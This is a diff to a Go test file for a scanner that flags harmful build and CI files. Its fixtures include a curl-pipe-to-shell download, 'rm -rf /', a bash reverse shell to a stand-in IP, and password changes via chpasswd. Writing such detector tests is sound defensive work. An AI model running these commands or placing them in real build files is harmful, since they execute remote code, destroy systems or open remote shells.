@@ -48,6 +48,7 @@ func TestBuildFilesThatHarm(t *testing.T) {
 		{"/repo/.github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          curl -s http://h.example/x | sh\n", "download-execute"},
 		{"/repo/.github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - shell: python\n        run: |\n          import os\n          os.system('rm -rf /')\n", "delete-system-tree"},
 		{"docker-compose.yml", "services:\n  a:\n    command: [\"sh\", \"-c\", \"curl -s http://h.example/x | sh\"]\n", "download-execute"},
+		{"Makefile", "a:\n\techo x | chpasswd\n", "change-accounts"},
 		{"compose.yaml", "services:\n  a:\n    entrypoint: bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n", "reverse-shell"},
 		{".gitlab-ci.yml", "a:\n  script:\n    - npm ci\n    - rm -rf /\n", "delete-system-tree"},
 		{".gitlab-ci.yml", "a:\n  script: rm -rf /\n  b: [\n", "delete-system-tree"},
@@ -82,6 +83,7 @@ func TestOrdinaryBuildFilesPass(t *testing.T) {
 		{"Dockerfile", "# syntax=docker/dockerfile:1\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends \\\n    # tools\n    curl git \\\n && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt flask\nCOPY . .\nEXPOSE 8000\nCMD [\"python\", \"-m\", \"app\"]\n"},
 		{"Dockerfile", "FROM node:22 AS build\nRUN npm ci && npm run build\nFROM nginx\nCOPY --from=build /app/dist /usr/share/nginx/html\nRUN useradd -m app && chown -R app /var/cache/nginx\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\nENTRYPOINT [\"nginx\", \"-g\", \"daemon off;\"]\n"},
 		{"Dockerfile", "FROM a\nCOPY <<EOF /etc/x.conf\nRUN rm -rf /\nEOF\nRUN <<EOF\napt-get update\napt-get install -y jq\nEOF\n"},
+		{"Dockerfile", "FROM a\nRUN useradd -ms /bin/bash -G sudo dev && echo \"dev ALL=(ALL) NOPASSWD:ALL\" > /etc/sudoers.d/dev\nRUN echo root:pw | chpasswd && echo '0 1 * * * root /x' > /etc/cron.d/x\n"},
 		{"Dockerfile", "RUN"},
 
 		{"/repo/.github/workflows/ci.yml", "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        shell: bash\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: |\n          npm test -- --shard=${{ matrix.shard }}/4\n          pip install requests\n        env:\n          TOKEN: ${{ secrets.TOKEN }}\n"},
